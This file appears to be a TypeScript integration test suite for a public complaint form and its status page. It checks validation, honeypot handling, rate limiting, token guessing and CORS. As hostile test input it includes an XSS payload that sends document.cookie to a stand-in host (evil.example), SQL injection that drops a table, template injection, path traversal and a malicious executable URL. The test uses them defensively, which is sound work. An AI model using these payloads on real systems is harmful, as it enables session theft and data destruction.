// The public complaint form and status page through the real HTTP layer, with hostile input:
// oversize and missing fields, HTML and script kept as text, a honeypot, bursts over the rate
// limit, wrong or guessed tokens, other workspaces' slugs, and CORS for embedding.
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { createTestApp, type TestApp } from '../../../test/support/app.ts';
import { findEvent } from '../events/index.ts';
import { type ComplaintsWorkspace, complaintsWorkspace } from './complaints.test-helpers.ts';

let t: TestApp;
let w: ComplaintsWorkspace;
let slug: string;
let ipSeq = 0;
/** Every test speaks from its own address unless it says otherwise, so limits do not leak between tests. */
const nextIp = () => `198.51.100.${++ipSeq}`;
const submitPath = (slug: string) => `/api/v1/public/workspaces/${slug}/complaints`;
const form = {
  name: 'Rita Lopes',
  email: 'rita@example.com',
  category: 'delivery',
  subject: 'Parcel never arrived',
  description: 'Order 5521 shows delivered but nothing came.',
};
const submit = (body: unknown, ip = nextIp(), to = slug) =>
  t.request('POST', submitPath(to), { body, headers: { 'x-forwarded-for': ip } });

beforeAll(async () => {
  t = await createTestApp();
  w = await complaintsWorkspace(t, 'Public Shop');
  slug = (await w.ok('GET', '/workspace')).slug;
  await w.ok('PATCH', '/complaint-settings', { publicFormEnabled: true });
});
afterAll(() => t.close());

describe('the public form', () => {
  test('is off until the workspace turns it on; unknown and other workspaces’ slugs answer 404', async () => {
    const other = await t.workspace('Closed Shop');
    const otherSlug = (await t.request('GET', '/api/v1/workspace', { token: other.ownerToken })).body.slug;
    expect(otherSlug).toBeTruthy();
    for (const wrong of [otherSlug, 'no-such-shop', '..%2F..%2Fetc', 'x'.repeat(61)]) {
      const res = await submit(form, nextIp(), wrong);
      expect(res.status, wrong).toBe(wrong.length > 60 ? 422 : 404);
      expect((await t.request('GET', `/api/v1/public/workspaces/${wrong}/complaint-form`)).status, wrong).toBe(
        wrong.length > 60 ? 422 : 404,
      );
    }
    const page = await t.request('GET', `/api/v1/public/workspaces/${slug}/complaint-form`);
    expect(page.status).toBe(200);
    expect(page.body).toEqual({
      workspace: { name: 'Public Shop', locale: 'en' },
      categories: ['product', 'delivery', 'billing', 'service', 'website', 'other'],
    });
    // A complaint sent to this workspace's slug lands here, never in the other workspace.
    const sent = await submit(form);
    expect(sent.status).toBe(201);
    expect((await t.request('GET', '/api/v1/complaints', { token: other.ownerToken })).body.items).toEqual([]);
  });

  test('registers a complaint, matching or creating the customer, and answers with a reference and a status link', async () => {
    const res = await submit({
      ...form,
      email: 'Rita@Example.com',
      phone: '+55 11 91234-5678',
      locale: 'pt-BR',
      attachments: [{ name: 'photo.jpg', contentType: 'image/jpeg', sizeBytes: 120_000 }],
    });
    expect(res.status).toBe(201);
    expect(Object.keys(res.body).sort()).toEqual(['reference', 'statusPath', 'statusToken']);
    expect(res.body.reference).toMatch(/^C-\d{4}-\d{6}$/);
    expect(res.body.statusToken).toMatch(/^[A-Za-z0-9_-]{64}$/);
    const list = (await w.ok('GET', '/complaints?limit=200')).items;
    const stored = list.find((c: { reference: string }) => c.reference === res.body.reference);
    expect(stored).toMatchObject({
      source: 'public_form',
      channel: 'web',
      status: 'registered',
      category: 'delivery',
      subject: form.subject,
      registeredBy: 'customer',
      customerName: 'Rita Lopes',
    });
    expect(stored.assigneeId).toBeTruthy();
    // The same person again (by email, any case): the same customer; they are answered in the language they chose.
    const again = list.find(
      (c: { reference: string; customerId: string }) =>
        c.reference !== res.body.reference && c.customerId === stored.customerId,
    );
    expect(again).toBeTruthy();
    expect(stored.locale).toBe('pt-BR');
    const customer = await w.ok('GET', `/customers/${stored.customerId}`);
    expect(customer).toMatchObject({ name: 'Rita Lopes', email: 'rita@example.com', acquisitionChannel: 'complaint' });
    // A new person by phone only is created with their language.
    const byPhone = await submit({
      name: 'Tomás Ruiz',
      phone: '+34 612 345 678',
      locale: 'es',
      category: 'billing',
      subject: 'Factura',
      description: 'Cobro doble',
    });
    expect(byPhone.status).toBe(201);
    const page = await t.request('GET', byPhone.body.statusPath);
    expect(page.body).toMatchObject({
      status: 'registered',
      locale: 'es',
      decision: null,
      resolution: null,
      canRate: false,
      history: [{ status: 'registered' }],
    });
    const registered = (await w.events('complaint.registered')).find(
      (e) => e.payload.reference === byPhone.body.reference,
    );
    expect(registered?.payload).toMatchObject({ source: 'public_form', locale: 'es' });
    expect(registered?.payload).not.toHaveProperty('statusToken');
    expect((await findEvent(t.deps.db, w.ws.id, registered!.id))?.secrets).toEqual({
      statusToken: byPhone.body.statusToken,
    });
  });

  test('HTML and script are stored verbatim and only ever returned as JSON text', async () => {
    const hostile = {
      ...form,
      email: 'mallory@example.com',
      name: '<img src=x onerror=alert(1)>',
      subject: '<script>alert("subject")</script>',
      description: `"><script>document.location='https://evil.example/?c='+document.cookie</script>\n' OR 1=1; DROP TABLE complaints; --\n{{constructor.constructor('alert(1)')()}}`,
    };
    const res = await submit(hostile);
    expect(res.status).toBe(201);
    const page = await t.request('GET', res.body.statusPath);
    expect(page.headers.get('content-type')).toMatch(/^application\/json/);
    expect(page.body.subject).toBe(hostile.subject);
    expect(page.body.description).toBe(hostile.description);
    expect(page.text).toContain(JSON.stringify(hostile.subject));
    const stored = (await w.ok('GET', '/complaints?limit=200')).items.find(
      (c: { reference: string }) => c.reference === res.body.reference,
    );
    expect(stored.description).toBe(hostile.description);
    expect((await w.ok('GET', `/customers/${stored.customerId}`)).name).toBe(hostile.name);
    expect((await w.ok('GET', '/complaints?limit=1')).items).toHaveLength(1); // the table is still there
  });

  test('oversize, missing, mistyped and unknown fields are refused and nothing is stored', async () => {
    const before = (await w.ok('GET', '/complaints?limit=200')).items.length;
    const fieldsOf = (res: { body: { errors?: { path: string }[] } }) =>
      (res.body.errors ?? []).map((e) => e.path).sort();
    const tooLong = await submit({
      ...form,
      description: 'x'.repeat(5001),
      subject: 'y'.repeat(201),
      name: 'z'.repeat(201),
    });
    expect(tooLong.status).toBe(422);
    expect(fieldsOf(tooLong)).toEqual(['description', 'name', 'subject']);
    const huge = await t.request('POST', submitPath(slug), {
      raw: JSON.stringify({ ...form, description: 'x'.repeat(70_000) }),
      headers: { 'x-forwarded-for': nextIp() },
    });
    expect(huge.status).toBe(413);
    expect(huge.body.code).toBe('payload_too_large');
    const missing = await submit({});
    expect(missing.status).toBe(422);
    expect(fieldsOf(missing)).toEqual(['category', 'description', 'name', 'subject']);
    const noContact = await submit({ ...form, email: undefined });
    expect(fieldsOf(noContact)).toEqual(['email']);
    expect(fieldsOf(await submit({ ...form, email: 'not-an-email' }))).toEqual(['email']);
    expect(fieldsOf(await submit({ ...form, email: undefined, phone: 'call me maybe' }))).toEqual(['phone']);
    expect(fieldsOf(await submit({ ...form, email: undefined, phone: '  ' }))).toEqual(['phone']);
    expect(fieldsOf(await submit({ ...form, category: 'weather' }))).toEqual(['category']);
    expect(fieldsOf(await submit({ ...form, category: 'Robert"); DROP TABLE' }))).toEqual(['category']);
    expect(fieldsOf(await submit({ ...form, description: 'nul \u0000 byte' }))).toEqual(['description']);
    expect(fieldsOf(await submit({ ...form, subject: '   ' }))).toEqual(['subject']);
    const unknown = await submit({ ...form, isAdmin: true, assigneeId: w.manager.id });
    expect(unknown.status).toBe(422);
    expect(unknown.body.errors[0].message).toBe('unknown fields: isAdmin, assigneeId');
    expect(
      fieldsOf(
        await submit({
          ...form,
          attachments: [
            { name: 'a.exe', contentType: 'application/x-msdownload', sizeBytes: 1, url: 'https://evil.example/a.exe' },
          ],
        }),
      ),
    ).toEqual(['attachments.0.url']);
    expect(
      (
        await submit({
          ...form,
          attachments: Array.from({ length: 6 }, () => ({ name: 'a', contentType: 'image/png', sizeBytes: 1 })),
        })
      ).status,
    ).toBe(422);
    expect(
      (await t.request('POST', submitPath(slug), { raw: '{"name":', headers: { 'x-forwarded-for': nextIp() } })).status,
    ).toBe(400);
    expect(
      (
        await t.request('POST', submitPath(slug), {
          raw: 'name=x',
          headers: { 'content-type': 'application/x-www-form-urlencoded', 'x-forwarded-for': nextIp() },
        })
      ).status,
    ).toBe(415);
    expect((await w.ok('GET', '/complaints?limit=200')).items.length).toBe(before);
  });

  test('a filled honeypot is answered exactly like a real submission, and nothing staff see is stored', async () => {
    const complaintsBefore = (await w.ok('GET', '/complaints?limit=200')).items.length;
    const eventsBefore = (await w.events('complaint.registered')).length;
    const person = { ...form, email: 'honey-person@example.com' };
    const real = await submit(person);
    const bot = await submit({
      ...form,
      email: 'bot@spam.example',
      subject: 'Cheap pills',
      website: 'http://spam.example',
    });
    const next = await submit(person);
    expect([real.status, bot.status, next.status]).toEqual([201, 201, 201]);
    expect(Object.keys(bot.body)).toEqual(Object.keys(real.body));
    // One sequence: the bot's reference sits between two real ones.
    const seq = (ref: string) => Number(ref.split('-')[2]);
    expect(bot.body.reference.slice(0, 7)).toBe(real.body.reference.slice(0, 7));
    expect([
      seq(bot.body.reference) - seq(real.body.reference),
      seq(next.body.reference) - seq(bot.body.reference),
    ]).toEqual([1, 1]);
    // Tokens of one shape, the workspace's prefix included.
    expect(bot.body.statusToken).toMatch(/^[A-Za-z0-9_-]{64}$/);
    expect(bot.body.statusToken.slice(0, 21)).toBe(real.body.statusToken.slice(0, 21));
    expect(bot.body.statusPath.replace(bot.body.statusToken, 'T')).toBe(
      real.body.statusPath.replace(real.body.statusToken, 'T'),
    );

    // The status pages answer alike, field for field, in the same order.
    const [realPage, botPage] = [
      await t.request('GET', real.body.statusPath),
      await t.request('GET', bot.body.statusPath),
    ];
    expect([realPage.status, botPage.status]).toEqual([200, 200]);
    const shape = (b: Record<string, any>) => ({
      ...b,
      reference: 'R',
      subject: 'S',
      registeredAt: 'T',
      history: b.history.map((h: { status: string }) => ({ ...h, at: 'T' })),
    });
    expect(JSON.stringify(shape(botPage.body))).toBe(JSON.stringify(shape(realPage.body)));
    expect(botPage.body).toMatchObject({ reference: bot.body.reference, subject: 'Cheap pills', status: 'registered' });
    // Rating before resolution: the same refusal.
    const [realRate, botRate] = [
      await t.request('POST', `${real.body.statusPath}/satisfaction`, { body: { score: 5 } }),
      await t.request('POST', `${bot.body.statusPath}/satisfaction`, { body: { score: 5 } }),
    ];
    expect([botRate.status, botRate.body.code, botRate.body.detail]).toEqual([
      realRate.status,
      realRate.body.code,
      realRate.body.detail,
    ]);
    // The same refusal for a bad category, too.
    const [realBad, botBad] = [
      await submit({ ...person, category: 'nope' }),
      await submit({ ...person, category: 'nope', website: 'x' }),
    ];
    expect([botBad.status, botBad.body.errors]).toEqual([realBad.status, realBad.body.errors]);

    // Staff see the two real complaints only: no complaint, event or customer for the bot.
    const list = (await w.ok('GET', '/complaints?limit=200')).items as { reference: string }[];
    expect(list.length).toBe(complaintsBefore + 2);
    expect(list.map((c) => c.reference)).not.toContain(bot.body.reference);
    expect((await w.events('complaint.registered')).length).toBe(eventsBefore + 2);
    expect((await w.ok('GET', '/customers?q=spam.example')).items).toEqual([]);
  });

  test('bursts over the rate limit get 429 with Retry-After; other addresses and the next window are served', async () => {
    const ip = '203.0.113.50';
    const statuses: number[] = [];
    for (let i = 0; i < 13; i++)
      statuses.push((await submit(i % 3 === 0 ? {} : { ...form, subject: `Burst ${i}` }, ip)).status);
    expect(statuses.slice(0, 10).every((s) => s === 201 || s === 422)).toBe(true);
    expect(statuses.slice(10)).toEqual([429, 429, 429]);
    const limited = await submit(form, ip);
    expect(limited.body.code).toBe('rate_limited');
    expect(Number(limited.headers.get('retry-after'))).toBeGreaterThan(0);
    expect((await submit(form, '203.0.113.51')).status).toBe(201);
    const stored = (await w.ok('GET', '/complaints?limit=200')).items.filter((c: { subject: string }) =>
      c.subject.startsWith('Burst'),
    );
    expect(stored).toHaveLength(6);
    t.clock.advance(10 * 60_000);
    expect((await submit(form, ip)).status).toBe(201);
  });

  test('answers CORS preflights for any origin, without credentials', async () => {
    const res = await t.app.request(submitPath(slug), {
      method: 'OPTIONS',
      headers: {
        origin: 'https://shop.example',
        'access-control-request-method': 'POST',
        'access-control-request-headers': 'content-type',
      },
    });
    expect(res.status).toBe(204);
    expect(res.headers.get('access-control-allow-origin')).toBe('*');
    expect(res.headers.get('access-control-allow-methods')).toContain('POST');
    expect(res.headers.get('access-control-allow-credentials')).toBeNull();
    const get = await t.app.request(`/api/v1/public/workspaces/${slug}/complaint-form`, {
      headers: { origin: 'https://shop.example' },
    });
    expect(get.headers.get('access-control-allow-origin')).toBe('*');
    // Authenticated routes do not opt in.
    const api = await t.app.request('/api/v1/complaints', { headers: { origin: 'https://shop.example' } });
    expect(api.headers.get('access-control-allow-origin')).toBeNull();
  });
});

describe('the status page and the satisfaction link', () => {
  test('wrong, guessed, malformed and other workspaces’ tokens answer 404 and reveal nothing', async () => {
    const real = (await submit(form)).body.statusToken as string;
    const flipped = real.slice(0, -1) + (real.endsWith('A') ? 'B' : 'A');
    const otherWorkspace = Buffer.concat([Buffer.alloc(16, 7), Buffer.from(real, 'base64url').subarray(16)]).toString(
      'base64url',
    );
    for (const token of [flipped, otherWorkspace, 'x'.repeat(64), 'short', "1' or '1'='1", '%00', real.toUpperCase()]) {
      const res = await t.request('GET', `/api/v1/public/complaints/${encodeURIComponent(token)}`);
      expect(res.status, token).toBe(404);
      expect(res.body.detail, token).toBe('Complaint not found');
      expect(
        (
          await t.request('POST', `/api/v1/public/complaints/${encodeURIComponent(token)}/satisfaction`, {
            body: { score: 5 },
          })
        ).status,
        token,
      ).toBe(404);
    }
    expect((await t.request('GET', `/api/v1/public/complaints/${'a'.repeat(201)}`)).status).toBe(422);
    expect((await t.request('GET', `/api/v1/public/complaints/${real}`)).status).toBe(200);
  });

  test('rating is refused before resolution, validated, accepted once after it', async () => {
    const sent = (await submit(form)).body;
    const rate = (body: unknown) => t.request('POST', `${sent.statusPath}/satisfaction`, { body });
    expect((await rate({ score: 5 })).status).toBe(409);
    const c = (await w.ok('GET', '/complaints?limit=200')).items.find(
      (x: { reference: string }) => x.reference === sent.reference,
    );
    await w.validate(c.id, 'medium');
    expect((await rate({ score: 5 })).status).toBe(409);
    // Resolved by its assignee (the owner's token would act as the owner, who would then be the resolver).
    await w.resolve(c.id, 'Re-shipped the parcel', 'delivery_delay', w.whoIs(c.assigneeId) ?? 'owner');
    for (const bad of [
      { score: 0 },
      { score: 6 },
      { score: 3.5 },
      { score: '5' },
      {},
      { score: 4, comment: 'x'.repeat(2001) },
      { score: 4, extra: 1 },
    ]) {
      const res = await rate(bad);
      expect(res.status, JSON.stringify(bad).slice(0, 60)).toBe(422);
    }
    const ok = await rate({ score: 2, comment: '<b>late</b>' });
    expect(ok.status).toBe(200);
    expect(ok.body).toMatchObject({
      status: 'satisfaction_checked',
      satisfaction: { score: 2, comment: '<b>late</b>' },
      canRate: false,
    });
    expect((await rate({ score: 5 })).status).toBe(409);
    const stored = await w.ok('GET', `/complaints/${c.id}`);
    // Stored on the complaint and, through resolvedBy, on the agent who solved it.
    expect(stored).toMatchObject({
      satisfactionScore: 2,
      satisfactionComment: '<b>late</b>',
      resolvedBy: stored.assigneeId,
    });
  });
});

describe('without the loyalty ledger', () => {
  test('a point compensation is refused with a clear error, and nothing is recorded', async () => {
    const c = await w.register('uma@example.com');
    await w.validate(c.id, 'low');
    const res = await w.call('POST', `/complaints/${c.id}/compensations`, { type: 'points', amount: 500 });
    expect(res.status).toBe(409);
    expect(res.body).toMatchObject({ code: 'loyalty_not_configured' });
    const recorded = await w.ok('GET', '/compensations');
    expect(recorded.items.filter((x: { complaintId: string }) => x.complaintId === c.id)).toHaveLength(0);
  });
});
